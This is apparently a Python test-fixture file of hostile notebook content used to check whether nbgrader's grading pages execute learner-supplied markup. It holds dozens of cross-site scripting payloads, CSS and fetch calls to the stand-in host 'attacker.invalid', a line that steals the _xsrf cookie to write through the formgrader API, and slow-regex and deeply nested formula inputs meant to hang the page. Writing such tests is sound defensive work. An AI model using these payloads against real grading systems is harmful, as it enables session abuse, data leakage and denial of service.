"""What a learner may write to act in the browser of the person who grades it.

Each marks the page with `CANARY`, asks another host for something, or writes into the course with
the rights of whoever looks. `tests/grading/whole/test_formgrader_browser.py` proves that they do
so in nbgrader's own pages, and opens them in ours.
"""

import base64
import struct

HOST = "attacker.invalid"
# Written into the course through nbgrader's own address, with the token that its pages hold.
WRITE = (
    "fetch('/formgrader/api/assignment/written',{method:'PUT',body:'{}',"
    "headers:{'X-CSRFToken':(document.cookie.match('_xsrf=([^;]*)')||[])[1]}})"
)
CODE = f"window.CANARY=1;document.title='CANARY';fetch('http://{HOST}/fetch');{WRITE}"
_B64 = base64.b64encode(f"<script>top.{CODE}</script>".encode()).decode()
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{CODE}\"><script>{CODE}</script></svg>"
_SVG64 = base64.b64encode(_SVG.encode()).decode()
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def png(width: int, height: int) -> str:
    """The head of a picture of this size, in base64: all that its size is read from."""
    head = b"\x89PNG\r\n\x1a\n" + struct.pack(
        ">I4sIIBBBBB", 13, b"IHDR", width, height, 1, 0, 0, 0, 0
    )
    return base64.b64encode(head + bytes(4)).decode()


# Cells of code that Python's patterns for colors take minutes or an hour for, at full length.
SLOW_CODE = {
    "names and dots": "a." * 60_000,
    "names and dots, in lines": ("a." * 100 + "\n") * 600,
    "numbers": "1.e" * 60_000,
    "letters by name": '"\\N{' * 45_000,
    "lines of blanks": (" " * 99 + "\n") * 1_800,
}
# Short answers whose formulas a browser cannot lay out.
DEEP_FORMULAS = {
    "fractions": "$" + r"\frac{1}{" * 100 + "x" + "}" * 100 + "$",
    "roots": "$" + r"\sqrt{" * 200 + "x" + "}" * 200 + "$",
    "fences": "$" + r"\left(" * 400 + "x" + r"\right)" * 400 + "$",
    "groups": "$" + "{" * 500 + "x" + "}" * 500 + "$",
    "environments": r"\begin{matrix}" * 60 + "x" + r"\end{matrix}" * 60,
    "environments in dollars": "$$" + r"\begin{matrix}" * 60 + "x" + r"\end{matrix}" * 60 + "$$",
    "sizes": "$" + r"\displaystyle " * 500 + "x$",
    "escaped braces": "$" + r"\sqrt{\}" * 200 + "x" + "}" * 200 + "$",
    "braces in comments": "$" + "{x %}\n" * 200 + "x" + "}" * 200 + "$",
    "entities": "&#36;" + "&#92;sqrt&#123;" * 200 + "x" + "}" * 200 + "&#36;",
    "tags that go": "$" + r"\sq<wbr>rt{" * 200 + "x" + "}" * 200 + "$",
    "words": r"$\def\a{\sqrt\b}\def\b{x}\a$",
    "words of words": "$" + r"\def\a#1{\sqrt{\sqrt{#1}}}\def\b#1{\a{\a{#1}}}\b{\b{\b{x}}}$",
    "an operator": r"$\DeclareMathOperator{\a}{\sqrt{x}}\a$",
}

MARKDOWN = {
    "a script": f"<script>{CODE}</script>",
    "a script in a formula": f"$x</p><script>{CODE}</script>$ $$<img src=x onerror=\"{CODE}\">$$",
    "a script in a table": f"| a |\n|---|\n| <img src=x onerror=\"{CODE}\"> |",
    "a picture that fails": f'<img src=x onerror="{CODE}">',
    "a picture that fails, in capitals": f'<IMG SRC=x OnErRoR="{CODE}">',
    "a drawing that loads": f'<svg onload="{CODE}"></svg>',
    "a drawing that moves": f'<svg><animate onbegin="{CODE}" attributeName=x dur=1s></svg>',
    "foreign markup": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img'
    f' src=1 onerror=window.CANARY=1&gt;"></table></mtext></math><svg><style><img src=x'
    f' onerror="{CODE}"></style></svg>',
    "a frame's page": f'<iframe srcdoc="<script>parent.{CODE}</script>"></iframe>',
    "a frame's address": f'<iframe src="javascript:parent.{CODE}"></iframe>',
    "an object": f'<object data="data:text/html;base64,{_B64}"></object><embed src="evil.svg">',
    "an open detail": f'<details open ontoggle="{CODE}"><summary>x</summary></details>',
    "an input with focus": f'<input autofocus onfocus="{CODE}"><video><source onerror="{CODE}">',
    "a link with a script": f"[x](javascript:{CODE}) <a href='java&#10;script:{CODE}'>x</a>",
    "a link with a page": f"[x](data:text/html;base64,{_B64}) <a href=' DATA:text/html,x'>x</a>",
    "a link that loads settings": "[click](/formgrader?path=submitted/mal) <img src='/formgrader?"
    "path=submitted/mal'>",
    "a picture from elsewhere": f"![x](http://{HOST}/picture.png) ![y](//{HOST}/picture.png)",
    "a drawing as a picture": f"![x](data:image/svg+xml;base64,{_SVG64})",
    "an attachment": "![x](attachment:evil.svg)",
    "a style that tells": f"<style>@import url(http://{HOST}/import.css); body {{ background: url("
    f"http://{HOST}/style.png) }} input[value^='1'] {{ background: url(http://{HOST}/1) }}</style>",
    "a style of its own": f'<p style="background:url(http://{HOST}/own.png);position:fixed;'
    'inset:0;z-index:9999">x</p>',
    "a form": f'<form action="http://{HOST}/form"><input name=q><button>Save</button></form>',
    "another address": f'<meta http-equiv="refresh" content="0;url=http://{HOST}/refresh"><base'
    f' href="http://{HOST}/"><link rel=stylesheet href="http://{HOST}/link.css">',
    "borrowed names": '<p id="why" class="score tabbable nbgrader_cell">1</p>'
    '<img name="currentScript">',
    "a cover": '<div class="navbar-fixed-top modal-backdrop in">Click anywhere</div>',
    "a cover of formulas": r"$\mmlToken{mi}[href='javascript:window.CANARY=1' id='why'"
    r" style='position:fixed;top:0;left:0;width:100%;height:100%;background:red']{x}$"
    r" $\rule{9999em}{9999em}$ $\hskip-900em\rule{999em}{99em}$",
    "formulas with links": rf"$\href{{javascript:{CODE}}}{{x}}$ $\require{{html}}\href{{javascript:"
    r"window.CANARY=1}{y}$ $\unicode{x3c}script$ $\class{modal}{x}\cssId{why}{x}$",
    "formulas without end": r"$\def\x{\x\x}\x$",
    "an unclosed comment": "<!-- <textarea><title><plaintext>",
    "code with a language": f'```"><img src=x onerror="{CODE}">\nx\n```\n```mermaid\n<img src=x'
    f' onerror="{CODE}">\n```',
    "very deep": "> " * 3000 + "x",
}  # fmt: skip

OUTPUTS = [
    {"output_type": "display_data", "metadata": {}, "data": data}
    for data in [
        {"text/html": f'<script>{CODE}</script><img src=x onerror="{CODE}">'},
        {"text/markdown": f'<img src=x onerror="{CODE}">'},
        {"application/javascript": CODE},
        {"image/svg+xml": _SVG},
        {"text/vnd.mermaid": f'<img src=x onerror="{CODE}">'},
        {"text/latex": f'<img src=x onerror="{CODE}">'},
        {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{CODE}"}},
        {"image/png": f'"><img src=x onerror="{CODE}">'},
        {f'x"><img src=x onerror="{CODE}">': "a form of its own"},
    ]
] + [
    {
        "output_type": "display_data",
        "data": {"image/png": PNG},
        "metadata": {"image/png": {"width": f"1 onload={CODE}", "alt": f'"><script>{CODE}'}},
    },
    {
        "output_type": "display_data",
        "data": {"text/html": f"<script>parent.{CODE}</script>"},
        "metadata": {"text/html": {"isolated": True}},
    },
    {
        "output_type": "error",
        "ename": f'<img src=x onerror="{CODE}">',
        "evalue": f"<script>{CODE}</script>",
        "traceback": [f'\x1b[31m<img src=x onerror="{CODE}">\x1b[0m', "\x1b]8;;javascript:1\x07x"],
    },
    {"output_type": "stream", "name": "stdout", "text": f'\x1b[1m<img src=x onerror="{CODE}">'},
]
NAME = f'<img src=x onerror="{CODE}">&amp;'


def hostile_metadata(nb: dict) -> None:
    """Markup wherever a notebook has a name."""
    markup = f'"><img src=x onerror="{CODE}">'
    nb["metadata"]["title"] = markup
    nb["metadata"]["language_info"] = {"name": markup, "pygments_lexer": markup}
    nb["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": f"</script><script>{CODE}</script>"}
    }
    for index, cell in enumerate(nb["cells"]):
        cell["id"] = f"x{index}"
        cell["metadata"]["tags"] = ['"><img src=x onerror=window.CANARY=1>']
        cell["metadata"]["magics_language"] = markup
        cell["metadata"]["alt"] = markup
        cell["attachments"] = {"evil.svg": {"image/svg+xml": _SVG64}}
